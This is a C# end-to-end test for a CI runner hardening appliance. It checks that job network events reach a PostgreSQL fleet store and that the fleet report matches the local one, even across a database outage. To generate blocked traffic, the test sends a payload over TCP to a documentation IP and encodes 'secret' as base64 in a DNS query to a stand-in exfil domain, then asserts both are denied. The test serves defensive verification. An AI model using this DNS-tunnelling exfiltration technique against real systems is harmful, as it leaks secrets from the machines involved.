using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using HardenRunner.Tests.Store;
using Npgsql;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Fleet mode with the real appliance in the lab: <c>start</c> with the store in <c>$HARDEN_RUNNER_STORE</c> (a private
/// PostgreSQL server, reached through its Unix socket, since the runner namespace has its own loopback), a job's
/// traffic, <c>stop</c>; the fleet database then renders the same report as the runner's local file — also when the
/// database was stopped while the job ran and started again before the appliance stopped (no event lost or doubled).
/// </summary>
public sealed class FleetStoreTests
{
    private static readonly TimeSpan CommandTimeout = TimeSpan.FromSeconds(60);

    private static Task<LabProcessResult> Cli(TestLab lab, IDictionary<string, string>? env, params string[] args) =>
        lab.RunInRunnerAsync(HardenRunnerBinary.FileName, HardenRunnerBinary.Args([.. args]), CommandTimeout, env);

    [SkippableTheory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task StartStop_WithPostgresStore_ShipsTheRun_AndTheFleetReportEqualsTheLocalOne(bool databaseDownDuringTheJob)
    {
        LabRequirement.SkipUnlessAvailable();
        await using var pg = await PostgresServer.StartAsync();
        var db = await pg.CreateDatabaseAsync();
        var store = pg.SocketUriText(db);
        await using var lab = await TestLab.StartAsync(new LabOptions());
        var dir = Path.Combine(lab.WorkDirectory, "job");
        Directory.CreateDirectory(Path.Combine(dir, ".harden"));
        await File.WriteAllTextAsync(Path.Combine(dir, ".harden", "policy.yml"), EnforcementCoreTests.Policy);
        var state = Path.Combine(dir, "state");
        var env = new Dictionary<string, string>
        {
            ["GITHUB_WORKSPACE"] = dir,
            ["GITHUB_REPOSITORY"] = "acme/web",
            ["GITHUB_WORKFLOW"] = "ci",
            ["GITHUB_JOB"] = "build",
            ["HARDEN_RUNNER_STORE"] = store,
        };

        var start = await Cli(lab, env, "start", "--state-dir", state);
        Assert.True(start.ExitCode == 0, start.ToString());
        if (databaseDownDuringTheJob)
        {
            await pg.StopAsync();
        }

        var payload = EnforcementCoreTests.Unique("fleet-");
        Assert.False((await EnforcementCoreTests.SendAsync(lab, "tcp", "198.51.100.20", 9000, payload)).Succeeded);
        var dig = await EnforcementCoreTests.DigAsync(lab, "c2VjcmV0.fleet.exfil.test", "A");
        Assert.Contains("status: NXDOMAIN", dig.StandardOutput, StringComparison.Ordinal);
        if (databaseDownDuringTheJob)
        {
            await pg.StartAsync();
        }

        var stop = await Cli(lab, env, "stop", "--state-dir", state);
        Assert.True(stop.ExitCode == 0, stop.ToString());
        var log = await File.ReadAllTextAsync(Path.Combine(state, "appliance.log"));
        Assert.Contains("fleet store postgres://", log, StringComparison.Ordinal);

        var local = await Cli(lab, null, "report", "--state-dir", state, "--store", "sqlite");
        Assert.True(local.ExitCode == 0, local.ToString());
        var fleet = await Cli(lab, new Dictionary<string, string> { ["HARDEN_RUNNER_STORE"] = store }, "report", "--state-dir", Path.Combine(dir, "elsewhere"));
        Assert.True(fleet.ExitCode == 0, fleet.ToString());
        Assert.Equal(local.StandardOutput, fleet.StandardOutput);
        using var report = JsonDocument.Parse(fleet.StandardOutput);
        Assert.Contains(
            report.RootElement.GetProperty("network").EnumerateArray(),
            n => n.GetProperty("address").GetString() == "198.51.100.20" && n.GetProperty("port").GetInt32() == 9000 && n.GetProperty("decision").GetString() == "deny");

        await using var c = new NpgsqlConnection(pg.ConnectionString(db));
        await c.OpenAsync();
        await using var cmd = new NpgsqlCommand("SELECT repository, job, host_name, ended_at IS NOT NULL FROM runs", c);
        await using var r = await cmd.ExecuteReaderAsync();
        Assert.True(await r.ReadAsync());
        Assert.Equal(("acme/web", "build", true), (r.GetString(0), r.GetString(1), r.GetBoolean(3)));
        Assert.False(string.IsNullOrEmpty(r.GetString(2)));
        Assert.False(await r.ReadAsync());
    }
}
